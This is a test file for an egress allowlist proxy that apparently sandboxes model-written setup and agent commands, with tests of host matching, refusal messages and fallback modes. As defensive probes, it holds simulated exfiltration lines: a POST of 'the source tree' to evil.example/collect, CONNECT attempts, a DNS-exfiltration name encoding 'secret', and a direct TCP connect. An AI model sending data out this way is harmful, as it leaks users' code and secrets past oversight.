import { request } from 'node:http';
import { copyFile, mkdir, mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ConfigError, parseConfig } from '../../../src/config/schema';
import { DEFAULT_HOSTS, hostAllowed, hostEntryProblem, MAX_COUNTED_HOSTS, OTHER_HOSTS } from '../../../src/domain/egress';
import type { Log, WorkingCopy } from '../../../src/ports';
import { prepareSandbox, prepareUserNamespace } from '../../../src/sandbox/command-runner';
import { startEgressProxy, type EgressProxy } from '../../../src/sandbox/egress/proxy';
import { DEFAULT_NETWORK, type NetworkConfig } from '../../../src/steps/egress';
import { prepareTools } from '../../../src/steps/sandbox-setup';
import { collector, serving, startEgressWorld, type EgressWorld } from '../../support/egress/world';
import { git } from '../../support/git-cli';

describe('the allowlist (domain/egress.ts, network.allow)', () => {
  it('matches hosts exactly, and subdomains only under a `*.` entry', () => {
    expect(hostAllowed(['registry.npmjs.org'], 'REGISTRY.npmjs.org.')).toBe(true);
    expect(hostAllowed(['registry.npmjs.org'], 'evil.registry.npmjs.org')).toBe(false);
    expect(hostAllowed(['registry.npmjs.org'], 'registry.npmjs.org.evil.example')).toBe(false);
    expect(hostAllowed(['*.acme.test'], 'npm.acme.test')).toBe(true);
    expect(hostAllowed(['*.acme.test'], 'acme.test')).toBe(false);
    expect(hostAllowed(['*.acme.test'], 'evilacme.test')).toBe(false);
    for (const h of [
      'registry.npmjs.org',
      'pypi.org',
      'files.pythonhosted.org',
      'static.crates.io',
      'proxy.golang.org',
      'sum.golang.org',
      'rubygems.org',
      'repo.maven.apache.org',
      'github.com',
      'codeload.github.com',
    ])
      expect(DEFAULT_HOSTS).toContain(h);
  });

  it('a bad entry in network.allow is named with what to write instead', () => {
    expect(hostEntryProblem('npm.acme.test')).toBeNull();
    expect(hostEntryProblem('*.acme.test')).toBeNull();
    expect(hostEntryProblem('https://npm.acme.test')).toMatch(/without a scheme/);
    expect(hostEntryProblem('npm.acme.test:8080')).toMatch(/without a port or a path/);
    expect(hostEntryProblem('*')).not.toBeNull();
    expect(hostEntryProblem('a.*.test')).not.toBeNull();
    expect(() => parseConfig('network:\n  allow: [https://npm.acme.test/]\n')).toThrow(ConfigError);
    expect(() => parseConfig('network:\n  allow: [https://npm.acme.test/]\n')).toThrow(/network\.allow.*https:\/\/npm\.acme\.test\/.*without a scheme/s);
    expect(() => parseConfig('network:\n  tools: open\n')).toThrow(/network\.tools/);
    expect(parseConfig('').network).toEqual(DEFAULT_NETWORK);
  });
});

/** One request through the proxy's socket, as the sandbox's forwarder hands it on. */
function viaSocket(proxy: EgressProxy, opts: { method: string; path: string; body?: string }): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const req = request({ socketPath: proxy.socket, method: opts.method, path: opts.path, headers: { host: new URL(opts.path).host } }, (res) => {
      let text = '';
      res.on('data', (c) => (text += c));
      res.on('end', () => resolve({ status: res.statusCode!, text }));
    });
    req.on('error', reject);
    req.end(opts.body);
  });
}

function connectVia(proxy: EgressProxy, target: string): Promise<{ status: number; inside?: string }> {
  return new Promise((resolve, reject) => {
    const req = request({ socketPath: proxy.socket, method: 'CONNECT', path: target });
    req.on('connect', (res, socket) => {
      if (res.statusCode !== 200) {
        socket.destroy();
        return resolve({ status: res.statusCode! });
      }
      socket.write(`GET /inside HTTP/1.1\r\nHost: ${target}\r\nConnection: close\r\n\r\n`);
      let text = '';
      socket.on('data', (c) => (text += c));
      socket.on('end', () => resolve({ status: 200, inside: text.split('\r\n\r\n')[1] }));
    });
    req.on('error', reject);
    req.end();
  });
}

describe('crew’s egress proxy (proxy-chain behind a Unix socket)', () => {
  let world: EgressWorld;
  let dir: string;
  let proxy: EgressProxy;
  const refusedLog: string[] = [];

  beforeAll(async () => {
    world = await startEgressWorld({ 'files.acme.test': serving('allowed bytes'), 'evil.example': collector, 'metadata.acme.test': serving('never') });
    dir = await mkdtemp(join(tmpdir(), 'egress-proxy-'));
    proxy = await startEgressProxy({
      allow: ['files.acme.test', 'metadata.acme.test'],
      tempDir: dir,
      resolver: world.resolver,
      onRefused: (host, port, how) => refusedLog.push(`${how} ${host}:${port}`),
    });
  });
  afterAll(async () => {
    await proxy.close();
    await world.close();
    await rm(dir, { recursive: true, force: true });
  });

  it('lets an allowed host through by name, as an absolute-URI request and through CONNECT, resolving it itself', async () => {
    const got = await viaSocket(proxy, { method: 'GET', path: 'http://files.acme.test/data.txt' });
    expect(got).toEqual({ status: 200, text: 'allowed bytes' });
    expect(await connectVia(proxy, 'files.acme.test:80')).toEqual({ status: 200, inside: 'allowed bytes' });
    expect(world.hosts.get('files.acme.test')!.reached.map((r) => `${r.method} ${r.url}`)).toEqual(['GET /data.txt', 'GET /inside']);
    expect(world.queries).toContain('files.acme.test');
  });

  it('refuses every other host with 403 and how to allow it, counts it by host, and never looks its name up', async () => {
    const posted = await viaSocket(proxy, { method: 'POST', path: 'http://evil.example/collect', body: 'the source tree' });
    expect(posted.status).toBe(403);
    expect(posted.text).toContain("crew's egress allowlist refused evil.example");
    expect(posted.text).toContain('network.allow in .github/crew.yml');
    expect(await connectVia(proxy, 'evil.example:443')).toEqual({ status: 403 });
    expect(await connectVia(proxy, 'c2VjcmV0.evil.example:443')).toEqual({ status: 403 });
    expect(world.hosts.get('evil.example')!.reached).toEqual([]);
    expect(world.queries.filter((q) => q.includes('evil'))).toEqual([]);
    expect(proxy.refused()).toEqual({ 'evil.example': 2, 'c2vjcmv0.evil.example': 1 });
    expect(refusedLog).toEqual(['HTTP evil.example:80', 'CONNECT evil.example:443', 'CONNECT c2vjcmv0.evil.example:443']);
  });

  it('counts a flood of names in bounded space', async () => {
    const flood = await startEgressProxy({ allow: [], tempDir: dir });
    try {
      for (let i = 0; i < MAX_COUNTED_HOSTS + 10; i++) expect((await connectVia(flood, `n${i}.evil.example:443`)).status).toBe(403);
      const counted = flood.refused();
      expect(Object.keys(counted)).toHaveLength(MAX_COUNTED_HOSTS + 1);
      expect(counted[OTHER_HOSTS]).toBe(10);
    } finally {
      await flood.close();
    }
  });
});

describe('model-written setup and commands in the real sandbox, with the allowlist', () => {
  let world: EgressWorld;
  let temp: string;
  let ws: string;
  const infos: string[] = [];
  const warnings: string[] = [];
  const log: Log = { info: (m) => void infos.push(m), warn: (m) => void warnings.push(m), checkpoint: () => undefined };
  const ctx = () => ({ repo: { dir: ws } as WorkingCopy, log });
  const network = (over: Partial<NetworkConfig> = {}): NetworkConfig => ({ ...DEFAULT_NETWORK, allow: ['files.acme.test'], ...over });
  const config = (setup: string[], over: Partial<NetworkConfig> = {}) => ({
    setup,
    command_timeout_seconds: 30,
    allow_unsandboxed: false,
    network: network(over),
  });
  const probe = (...what: string[]) => `node net-probe.cjs ${what.map((w) => `'${w}'`).join(' ')}`;
  const lines = (text: string) =>
    Object.fromEntries(
      text
        .split('\n')
        .filter((l) => l.startsWith('{'))
        .map((l) => JSON.parse(l) as { what: string })
        .map((o) => [o.what, o]),
    ) as Record<string, Record<string, unknown>>;

  beforeAll(async () => {
    world = await startEgressWorld({ 'files.acme.test': serving('allowed bytes'), 'evil.example': collector });
    process.env.CREW_EGRESS_RESOLVER = world.resolver;
    temp = await mkdtemp(join(tmpdir(), 'egress-sandbox-'));
    ws = join(temp, 'ws');
    await mkdir(ws);
    await git(['init', '--quiet', ws]);
    await copyFile(join(__dirname, '..', '..', 'support', 'egress', 'net-probe.cjs'), join(ws, 'net-probe.cjs'));
  });
  afterAll(async () => {
    delete process.env.CREW_EGRESS_RESOLVER;
    await world.close();
    await rm(temp, { recursive: true, force: true });
  });

  it('setup reaches an allowed host by name and nothing else: other hosts are refused and counted, direct connections and DNS fail', async () => {
    const evil = world.hosts.get('evil.example')!.address;
    const r = await prepareTools(
      ctx(),
      config([
        `${probe('get|http://files.acme.test/data.txt', 'connect|files.acme.test:80', 'post|http://evil.example/collect|tree', 'connect|evil.example:443', `tcp|${evil}|80`, 'lookup|exfil-c2VjcmV0.evil.example', `resolve|${world.resolver}|exfil-c2VjcmV0.evil.example`, 'lookup|files.acme.test')} > setup.out`,
      ]),
      { trusted: false },
    );
    try {
      expect(r.setupFailure).toBeNull();
      expect(r.egress!.mode).toBe('allowlist');
      expect(infos.some((l) => l.startsWith('setup (on a model-written tree, inside the sandbox, through the egress allowlist): node net-probe.cjs'))).toBe(
        true,
      );
      const out = lines(await readFile(join(ws, 'setup.out'), 'utf8'));
      expect(out['get|http://files.acme.test/data.txt']).toMatchObject({ status: 200, text: 'allowed bytes' });
      expect(out['connect|files.acme.test:80']).toMatchObject({ status: 200, inside: 'allowed bytes' });
      expect(out['post|http://evil.example/collect|tree']).toMatchObject({ status: 403 });
      expect(out['connect|evil.example:443']).toMatchObject({ status: 403 });
      // Around the proxy: crew's machine's addresses are not routed from the sandbox's namespace, and it has no resolver.
      expect(out[`tcp|${evil}|80`]!.connected).toBeUndefined();
      expect(out['lookup|exfil-c2VjcmV0.evil.example']!.error).toBeTruthy();
      expect(out[`resolve|${world.resolver}|exfil-c2VjcmV0.evil.example`]!.error).toBeTruthy();
      // Even an allowed name does not resolve inside: only the proxy looks names up.
      expect(out['lookup|files.acme.test']!.error).toBeTruthy();
      expect(world.hosts.get('evil.example')!.reached).toEqual([]);
      expect(world.queries.filter((q) => q.includes('evil'))).toEqual([]);
      expect(r.egress!.refused()).toEqual({ 'evil.example': 2 });
      // The start-of-job line names the egress mode.
      expect(infos.some((l) => l.startsWith('run_command is sandboxed') && l.includes('egress: allowlist.'))).toBe(true);
      // The agents' own commands have no network by default, not even the proxy.
      const agent = await r.runner!.run(probe('get|http://files.acme.test/data.txt', 'tcp|127.0.0.1|3128'), {
        cwd: ws,
        timeoutMs: 20_000,
        maxOutputBytes: 10_000,
      });
      expect(lines(agent.output)['get|http://files.acme.test/data.txt']!.error).toBeTruthy();
      expect(lines(agent.output)['tcp|127.0.0.1|3128']!.connected).toBeUndefined();
    } finally {
      await r.egress?.close();
    }
  });

  it('network.tools: allowlist gives the agents’ commands the same allowlist', async () => {
    const r = await prepareTools(ctx(), config([], { tools: 'allowlist' }), { trusted: true });
    try {
      expect(r.egress!.tools).toBe('allowlist');
      const run = await r.runner!.run(probe('get|http://files.acme.test/data.txt', 'get|http://evil.example/'), {
        cwd: ws,
        timeoutMs: 20_000,
        maxOutputBytes: 10_000,
      });
      const out = lines(run.output);
      expect(out['get|http://files.acme.test/data.txt']).toMatchObject({ status: 200, text: 'allowed bytes' });
      expect(out['get|http://evil.example/']).toMatchObject({ status: 403 });
      expect(r.egress!.refused()).toEqual({ 'evil.example': 1 });
    } finally {
      await r.egress?.close();
    }
  });

  it('a setup that fails after a refusal names the refused host and how to allow it', async () => {
    const r = await prepareTools(ctx(), config([`${probe('get|http://evil.example/pkg.tgz')}; exit 1`]), { trusted: false });
    await r.egress?.close();
    expect(r.setupFailure).toMatch(
      /^the setup command `.*` exited with 1: .*\. crew's egress proxy refused evil\.example \(1\) meanwhile: if the repository needs that host, add it to network\.allow in \.github\/crew\.yml$/,
    );
  });

  it('local mode’s user-namespace sandbox takes the same route: an allowed host by name, nothing else', async () => {
    const proxy = await startEgressProxy({ allow: ['files.acme.test'], tempDir: temp, resolver: world.resolver });
    try {
      const prepared = await prepareUserNamespace(ws, join(temp, 'userns'), { socket: proxy.socket });
      if (!('runner' in prepared)) throw new Error(`this machine allows user namespaces, yet: ${prepared.reason}`);
      expect(prepared.egressProblem).toBeUndefined();
      const run = await prepared.runner.run(
        probe('get|http://files.acme.test/data.txt', 'post|http://evil.example/collect|tree', 'lookup|exfil.evil.example'),
        {
          cwd: ws,
          timeoutMs: 20_000,
          maxOutputBytes: 10_000,
          network: 'allowlist',
        },
      );
      const out = lines(run.output);
      expect(out['get|http://files.acme.test/data.txt']).toMatchObject({ status: 200, text: 'allowed bytes' });
      expect(out['post|http://evil.example/collect|tree']).toMatchObject({ status: 403 });
      expect(out['lookup|exfil.evil.example']!.error).toBeTruthy();
      expect(proxy.refused()).toEqual({ 'evil.example': 1 });
    } finally {
      await proxy.close();
    }
  });

  describe('where the sandbox cannot reach the proxy', () => {
    // The real sandbox, handed a route whose socket does not exist: the forwarder's check fails.
    const broken = (workspace: string, tempDir: string, route?: { socket: string }) =>
      prepareSandbox(workspace, tempDir, route ? { socket: join(tempDir, 'no-such-proxy.sock') } : undefined);

    it('setup runs without network, says why at the start of the job, and a failure says how to allow it', async () => {
      warnings.length = 0;
      const r = await prepareTools(ctx(), config([`${probe('get|http://files.acme.test/data.txt')} > offline.out; exit 2`]), { trusted: false }, [broken]);
      expect(r.egress!.mode).toBe('offline');
      expect(r.egress!.problem).toMatch(/could not reach crew's egress proxy \(crew: the egress route could not be set up \(the proxy socket: ENOENT\)\)/);
      expect(warnings.some((w) => w.startsWith("crew's egress allowlist could not be set up"))).toBe(true);
      // No proxy variables, no resolver, no route: the name does not even resolve.
      expect(lines(await readFile(join(ws, 'offline.out'), 'utf8'))['get|http://files.acme.test/data.txt']!.error).toBeTruthy();
      expect(r.setupFailure).toMatch(
        /exited with 2: \. It ran without network, because crew's egress allowlist could not be set up here \(.*\)\. .*set network\.fallback: open in \.github\/crew\.yml/,
      );
      expect(r.warning).toBeNull();
    });

    it('with network.fallback: open it has the runner’s network, and says so loudly', async () => {
      const r = await prepareTools(
        ctx(),
        config([`${probe(`tcp|${world.hosts.get('files.acme.test')!.address}|80`)} > open.out`], { fallback: 'open' }),
        { trusted: false },
        [broken],
      );
      expect(r.egress!.mode).toBe('open');
      expect(lines(await readFile(join(ws, 'open.out'), 'utf8'))[`tcp|${world.hosts.get('files.acme.test')!.address}|80`]).toMatchObject({ connected: true });
      expect(r.warning).toMatch(/^model-written setup had the runner's network, unfiltered \(network.fallback: open; /);
      expect(infos.some((l) => l.includes('egress: OPEN.'))).toBe(true);
    });
  });
});
